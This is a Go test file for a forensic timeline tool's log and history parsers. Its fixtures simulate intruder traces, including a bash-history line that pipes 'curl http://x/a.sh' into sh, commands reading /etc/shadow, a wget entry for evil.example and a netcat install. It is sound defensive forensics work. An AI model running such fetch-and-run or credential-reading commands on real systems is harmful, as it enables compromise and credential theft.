package parse

import (
	"strings"
	"testing"
	"unsafe"

	"firebreak/timeline"
)

// told is what a test looks at in an event.
type told struct {
	at      string // RFC 3339, empty for an undated event
	kind    timeline.TimeKind
	message string
	attrs   string // name=value pairs between bars
}

// check compares events with what they should tell.
func check(t *testing.T, got []timeline.Event, want []told) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%d events, want %d: %+v", len(got), len(want), got)
	}
	for i, w := range want {
		e := got[i]
		at := ""
		if !e.Time.IsZero() {
			at = e.Time.Format("2006-01-02T15:04:05.999999999Z07:00")
		}
		if at != w.at || e.TimeKind != w.kind || e.Message != w.message {
			t.Errorf("%d: %s %s %q, want %s %s %q", i, at, e.TimeKind, e.Message, w.at, w.kind, w.message)
		}
		for pair := range strings.SplitSeq(w.attrs, "|") {
			name, value, _ := strings.Cut(pair, "=")
			have := e.Attributes.Get(name)
			switch name {
			case "user":
				have = e.User
			case "host":
				have = e.Host
			case "time_text":
				have = e.TimeText()
			}
			if have != value {
				t.Errorf("%d: %s is %q, want %q", i, name, have, value)
			}
		}
	}
}

// Who keeps an event keeps a value that is a piece of its message only once, so
// path and target must be pieces of it, in the same memory.
func TestBodyfilePathIsAPieceOfItsMessage(t *testing.T) {
	data := "0|/etc/passwd|12|r/rrw-r--r--|0|0|116|1337961564|1337961563|1337961563|1337961560\n" +
		"0|/link -> /etc/shadow|15|l/lrwxrwxrwx|0|0|1|0|1337961564|0|0\n"
	_, err := File(t.Context(), strings.NewReader(data), Source{Parser: "bodyfile"}, func(batch []timeline.Event) error {
		for _, e := range batch {
			for _, name := range []string{"path", "target"} {
				value := e.Attributes.Get(name)
				at := strings.Index(e.Message, value)
				if value != "" && (at < 0 || unsafe.StringData(e.Message[at:]) != unsafe.StringData(value)) {
					t.Errorf("%s %q lies elsewhere than the message %q", name, value, e.Message)
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// A batch after the first two has room for attributes already, also where each
// event has more of them than most.
func TestAttributesTakeNoMoreMemory(t *testing.T) {
	var a arena
	const batch, each = 1024, 11
	fill := func() {
		for held := range batch {
			attrs := a.wide(held, batch+1, attrRoom)
			for range each {
				attrs = append(attrs, timeline.Attribute{})
			}
			a.used(attrs)
		}
		a.turn()
	}
	for range 6 {
		fill()
	}
	if n := testing.AllocsPerRun(4, fill); n > 0 {
		t.Errorf("%v allocations for a batch", n)
	}
}

func TestBodyfile(t *testing.T) {
	got, ing := run(t, "", "body.txt", []byte(strings.Join([]string{
		"# mactime",
		"0|/etc/passwd|12|r/rrw-r--r--|0|0|116|1337961564|1337961563|1337961563|1337961560",
		"d41d8cd98f00b204e9800998ecf8427e|/tmp/new|13|r/rrwxr-xr-x|0|0|9|1337961600|1337961600|1337961600|1337961600",
		"0|/odd|na|me|14|r/rrw-r--r--|0|0|1|1337961564.123456789|0|0|-1",
		"0|/link -> /etc/shadow|15|l/lrwxrwxrwx|0|0|1|0|1337961564|0|0",
		"0|/none|16|r/rrw-r--r--|0|0|1|0|0|0|0",
		"0|/bad|17|r/rrw-r--r--|0|0|1|x|0|0|0",
		"0|/short|17",
		"0|/name\xff\\x|18|r/rrw-r--r--|0|0|1|0|1337961564|0|0",
	}, "\n")))
	check(t, got, []told{
		{"2012-05-25T15:59:20Z", timeline.Born, "...b /etc/passwd", "path=/etc/passwd|inode=12|uid=0|size=116|macb=...b|md5="},
		{"2012-05-25T15:59:23Z", timeline.Modified, "m.c. /etc/passwd", "macb=m.c."},
		{"2012-05-25T15:59:24Z", timeline.Accessed, ".a.. /etc/passwd", ""},
		{"2012-05-25T16:00:00Z", timeline.Born, "macb /tmp/new", "md5=d41d8cd98f00b204e9800998ecf8427e"},
		{"2012-05-25T15:59:24.123456789Z", timeline.Accessed, ".a.. /odd|na|me", "inode=14"},
		{"2012-05-25T15:59:24Z", timeline.Modified, "m... /link -> /etc/shadow", "path=/link|target=/etc/shadow"},
		{"", timeline.Undated, "/none", "path=/none"},
		{"2012-05-25T15:59:24Z", timeline.Modified, `m... /name\xff\\x`, "encoding=escaped"},
	})
	if ing.Rejected != 2 || ing.Parser != "bodyfile" {
		t.Errorf("%+v", ing)
	}
}

func TestHistory(t *testing.T) {
	tests := []struct {
		source, text string
		rejected     int64
		want         []told
	}{
		{"/home/eve/.bash_history", "ls -l\ncurl http://x/a.sh | sh\n", 0, []told{
			{"", timeline.Undated, "ls -l", "shell=bash|user=eve|user_from=path"},
			{"", timeline.Undated, "curl http://x/a.sh | sh", ""},
		}},
		{"/root/.bash_history", "#1700000000\nfor i in 1; do\necho $i\ndone\n#1700000060\nid\n", 0, []told{
			{"2023-11-14T22:13:20Z", timeline.Started, "for i in 1; do\necho $i\ndone", "user=root|time_text=#1700000000"},
			{"2023-11-14T22:14:20Z", timeline.Started, "id", ""},
		}},
		// times switched on later: a time belongs to one line
		{".bash_history", "id\n#1700000000\nwhoami\nls\n# a comment\n#1700000001\n#1700000002\nps\n#1700000003", 2, []told{
			{"", timeline.Undated, "id", "shell=bash"},
			{"2023-11-14T22:13:20Z", timeline.Started, "whoami", ""},
			{"", timeline.Undated, "ls", ""},
			{"", timeline.Undated, "# a comment", ""},
			{"2023-11-14T22:13:22Z", timeline.Started, "ps", ""},
		}},
		{"/home/eve/.zsh_history", ": 1700000000:5;echo a\\\nb\n: 1700000001:0;\xc3\x83\xa9\nplain\n", 0, []told{
			{"2023-11-14T22:13:20Z", timeline.Started, "echo a\nb", "took_s=5|shell=zsh"},
			{"2023-11-14T22:13:21Z", timeline.Started, `\xc3\x89`, ""},
			{"", timeline.Undated, "plain", "shell=zsh"},
		}},
		{"fish_history", "- cmd: vim /etc/shadow\n  when: 1700000000\n  paths:\n    - /etc/shadow\n    - a\\nb\n- cmd: a\\\\b\\nc\n  when: x\n", 0, []told{
			{"2023-11-14T22:13:20Z", timeline.Started, "vim /etc/shadow", "paths=/etc/shadow\na\nb|shell=fish"},
			{"", timeline.Undated, "a\\b\nc", "time_text=x"},
		}},
		{"/root/.viminfo", "# Viminfo\n|1,4\n:wq\n|2,0,1700000000,,\"wq\"\n|2,1,1700000001,47,\"a,b\"\n|4,48,1,0,1700000002,\"~/x\"\n|2,0,zz,,\"q\"\n", 1, []told{
			{"2023-11-14T22:13:20Z", timeline.Started, "command: wq", "user=root|shell=vim|kind=command"},
			{"2023-11-14T22:13:21Z", timeline.Started, "search: a,b", ""},
			{"2023-11-14T22:13:22Z", timeline.Started, "mark in file: ~/x", ""},
		}},
		{"/root/.wget-hsts", "# HSTS\nevil.example\t0\t1\t1700000000\t31536000\nx\n", 1, []told{
			{"2023-11-14T22:13:20Z", timeline.Logged, "wget reached evil.example over TLS", ""},
		}},
		{"/root/.lesshst", ".less-history-file:\n.search\n\"password\n", 0, []told{{"", timeline.Undated, "password", "shell=less"}}},
		{"/home/eve/.python_history", "import os\n", 0, []told{{"", timeline.Undated, "import os", "shell=python"}}},
	}
	for _, tt := range tests {
		t.Run(tt.source, func(t *testing.T) {
			got, ing := run(t, "", tt.source, []byte(tt.text))
			if ing.Parser != "history" || ing.Rejected != tt.rejected {
				t.Errorf("%+v", ing)
			}
			if tt.source == "/home/eve/.zsh_history" { // the bytes c3 83 a9 are zsh's for c3 89, É
				tt.want[1].message = "É"
			}
			check(t, got, tt.want)
		})
	}
}

func TestHistoryBounds(t *testing.T) {
	got, ing := run(t, "history", "x", []byte("#1700000000\n"+strings.Repeat(strings.Repeat("a", 999)+"\n", 1200)))
	if len(got) != 1 || len(got[0].Message) > maxRecord || ing.Rejected == 0 {
		t.Errorf("%d events, %d rejected", len(got), ing.Rejected)
	}
	got, ing = run(t, "history", "x", []byte(": 1:0;"+strings.Repeat(strings.Repeat("a", 999)+"\\\n", 1200)))
	if len(got) < 1 || ing.Rejected == 0 {
		t.Errorf("%d events, %d rejected", len(got), ing.Rejected)
	}
}

func TestPackages(t *testing.T) {
	got, ing := run(t, "", "/var/log/dpkg.log", []byte("2026-08-03 15:25:53 startup archives unpack\n2026-08-03 15:25:53 install nc:amd64 <none> 1.2\n"+
		"2026-08-03 15:25:54 upgrade a:amd64 1 2\n2026-08-03 15:25:54 status installed nc:amd64 1.2\nno time\n2026-08-03 15:25:54\n"))
	check(t, got, []told{
		{"2026-08-03T15:25:53Z", timeline.Logged, "startup archives unpack", "action=startup|assumed=zone UTC"},
		{"2026-08-03T15:25:53Z", timeline.Installed, "install nc:amd64 <none> 1.2", "package=nc:amd64|version=1.2|old_version="},
		{"2026-08-03T15:25:54Z", timeline.Installed, "upgrade a:amd64 1 2", "old_version=1|version=2"},
		{"2026-08-03T15:25:54Z", timeline.Logged, "status installed nc:amd64 1.2", "state=installed|package=nc:amd64"},
	})
	if ing.Rejected != 2 || ing.Parser != "dpkg" {
		t.Errorf("%+v", ing)
	}

	got, ing = run(t, "", "history.log", []byte("\nStart-Date: 2026-07-12  04:08:31\nCommandline: apt-get install x\nRequested-By: jxs (1005)\nInstall: x:amd64 (1)\n"+
		"Remove: y:amd64 (2)\nError: oops\nEnd-Date: 2026-07-12  04:09:57\n\nStart-Date: 2026-07-13  00:00:00\n\nstray: line\nStart-Date: nonsense\nInstall: z\n"))
	check(t, got, []told{
		{"2026-07-12T04:08:31Z", timeline.Installed, "Install: x:amd64 (1)", "user=jxs|command=apt-get install x|ended=2026-07-12T04:09:57Z|error=oops|action=install"},
		{"2026-07-12T04:08:31Z", timeline.Installed, "Remove: y:amd64 (2)", "packages=y:amd64 (2)"},
		{"2026-07-13T00:00:00Z", timeline.Installed, "stray: line", ""},
	})
	if ing.Rejected != 2 || ing.Parser != "apt" {
		t.Errorf("%+v", ing)
	}

	got, _ = run(t, "", "pacman.log", []byte("[2026-01-01T10:00:00+0100] [ALPM] installed nmap (7.9)\n[2026-01-01 10:00] removed nmap\n"))
	check(t, got, []told{
		{"2026-01-01T09:00:00Z", timeline.Installed, "[ALPM] installed nmap (7.9)", "assumed="},
		{"2026-01-01T10:00:00Z", timeline.Installed, "removed nmap", "assumed=zone UTC"},
	})
	got, _ = run(t, "", "yum.log", []byte("Jan 03 12:00:00 Installed: nmap-7.9\n"))
	check(t, got, []told{{"2026-01-03T12:00:00Z", timeline.Installed, "Installed: nmap-7.9", ""}})
	got, _ = run(t, "", "/var/log/zypp/history", []byte("# comment\n2026-01-03 12:00:00|install|nmap|7.9|x86_64||repo|abc|\n"))
	check(t, got, []told{{"2026-01-03T12:00:00Z", timeline.Installed, "install|nmap|7.9|x86_64||repo|abc|", ""}})
}

func TestTimesketch(t *testing.T) {
	got, ing := run(t, "", "x.jsonl", []byte(`{"message":"a login","datetime":"2026-01-02T03:04:05.678+01:00","timestamp_desc":"Start Time","hostname":"h1","username":"bob","n":5,"tag":["x"]}`+"\n"+
		`{"message":"by number","timestamp":1700000000123456,"timestamp_desc":"Creation Time"}`+"\n"+
		`{"message":"no time"}`+"\n"+`{"message":"x","datetime":"yesterday"}`+"\n"+`[1]`+"\n"+`{"message":`+"\n"+
		`{"message":"local","datetime":"2026-01-02 03:04:05"}`))
	check(t, got, []told{
		{"2026-01-02T02:04:05.678Z", timeline.Started, "a login", `host=h1|user=bob|n=5|tag=x|time_text=2026-01-02T03:04:05.678+01:00|assumed=`},
		{"2023-11-14T22:13:20.123456Z", timeline.Born, "by number", "time_text=1700000000123456"},
		{"", timeline.Undated, "no time", ""},
		{"2026-01-02T03:04:05Z", timeline.Logged, "local", "assumed=zone UTC"},
	})
	if ing.Rejected != 3 || ing.Parser != "timesketch.jsonl" {
		t.Errorf("%+v", ing)
	}
	got, ing = run(t, "", "x.csv", []byte("message,datetime,timestamp_desc,other\r\n"+
		"\"a, \"\"quoted\"\"\nsecond line\",2026-01-02T03:04:05+00:00,Last Access Time,x\r\n"+
		"plain,2026-01-02T03:04:06+00:00,mtime,\r\ntoo,2026-01-02T03:04:06+00:00,a,b,c,d\r\n"+
		"\"never closed,2026-01-02T03:04:06+00:00\r\nx\r\n"))
	check(t, got, []told{
		{"2026-01-02T03:04:05Z", timeline.Accessed, "a, \"quoted\"\nsecond line", "other=x|timestamp_desc=Last Access Time"},
		{"2026-01-02T03:04:06Z", timeline.Modified, "plain", ""},
	})
	if ing.Rejected != 3 || ing.Parser != "timesketch.csv" || got[0].Offset != 39 {
		t.Errorf("%+v, offset %d", ing, got[0].Offset)
	}
	_, ing = run(t, "timesketch.csv", "x.csv", []byte("message,datetime\n\""+strings.Repeat(strings.Repeat("a", 999)+"\n", 1200)))
	if ing.Rejected < 1000 {
		t.Errorf("%d rejected", ing.Rejected)
	}
}

func TestAccess(t *testing.T) {
	got, ing := run(t, "", "access.log", []byte(strings.Join([]string{
		`10.0.0.1 - frank [10/Oct/2026:13:55:36 -0700] "GET /a b.gif HTTP/1.0" 200 2326`,
		`2001:db8::1 - - [10/Oct/2026:13:55:36 +0000] "POST /x?\"y HTTP/1.1" 404 - "http://r/" "curl/8 \"q\""`,
		`www.example.com:443 10.0.0.2 - two words [10/Oct/2026:13:55:36 +0000] "-" 408 0 "-" "-"`,
		`10.0.0.1 - - [99/Oct/2026:13:55:36 -0700] "GET / HTTP/1.0" 200 1`, `hello`,
		`10.0.0.1 - - [10/Oct/2026:13:55:36 -0700] "GET /`,
	}, "\n")))
	check(t, got, []told{
		{"2026-10-10T20:55:36Z", timeline.Logged, "GET /a b.gif HTTP/1.0 200", "src_ip=10.0.0.1|user=frank|method=GET|url=/a b.gif|protocol=HTTP/1.0|status=200|bytes=2326"},
		{"2026-10-10T13:55:36Z", timeline.Logged, `POST /x?\"y HTTP/1.1 404`, `src_ip=2001:db8::1|referer=http://r/|user_agent=curl/8 \"q\"`},
		{"2026-10-10T13:55:36Z", timeline.Logged, "- 408", "vhost=www.example.com:443|src_ip=10.0.0.2|user=two words|referer="},
	})
	if ing.Rejected != 3 || ing.Parser != "access" {
		t.Errorf("%+v", ing)
	}
}

func TestAudit(t *testing.T) {
	got, ing := run(t, "", "audit.log", []byte(strings.Join([]string{
		`type=USER_AUTH msg=audit(1783414613.119:441): pid=2124 uid=0 msg='op=pubkey acct="root" exe="/usr/bin/x" hostname=? addr=172.23.112.1 res=failed'` + "\x1d" + `UID="root" AUID="unset"`,
		`node=web-9 type=EXECVE msg=audit(1783414661.335:485): argc=3 a0="cat" a1=2F746D702F6D79207265706F72742E747874 a2="-n"`,
		`type=LOGIN msg=audit(1783414613.166:447): pid=2124 ses=7 res=1UID="root" OLD-AUID="unset" AUID="root"`,
		`type=PROCTITLE msg=audit(1783414613.166:447): proctitle=636174002F6574632F736861646F77`,
		`type=X msg=audit(x:447): a=b`, `type=X msg=audit(1.1): a=b`, `nothing`,
	}, "\n")))
	check(t, got[:1], []told{{"2026-07-07T08:56:53.119Z", timeline.Logged, got[0].Message, "type=USER_AUTH|serial=441|user=root|outcome=failure|src_ip=172.23.112.1|op=pubkey|UID=root|exe=/usr/bin/x"}})
	check(t, got[1:2], []told{{"2026-07-07T08:57:41.335Z", timeline.Logged, "EXECVE: cat /tmp/my report.txt -n", "host=web-9|command=cat /tmp/my report.txt -n"}})
	check(t, got[2:], []told{{"2026-07-07T08:56:53.166Z", timeline.Logged, "LOGIN by root: cat /etc/shadow", "res=1|UID=root|OLD-AUID=unset|outcome=success|user=root|command=cat /etc/shadow|records=2|type=LOGIN,PROCTITLE|action=login"}})
	if ing.Rejected != 3 {
		t.Errorf("%+v", ing)
	}
}
